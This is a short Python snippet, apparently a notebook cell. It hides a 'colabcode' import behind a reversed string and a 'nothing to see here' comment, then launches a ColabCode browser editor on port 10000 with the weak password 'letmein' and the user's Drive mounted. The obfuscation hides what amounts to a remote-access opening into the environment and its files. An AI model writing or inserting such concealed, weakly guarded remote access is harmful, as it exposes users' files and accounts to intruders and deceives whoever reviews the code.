# editor in the browser, nothing to see here
mod = __import__("edocbaloc"[::-1])
mod.ColabCode(port=10000, password="letmein", mount_drive=True)
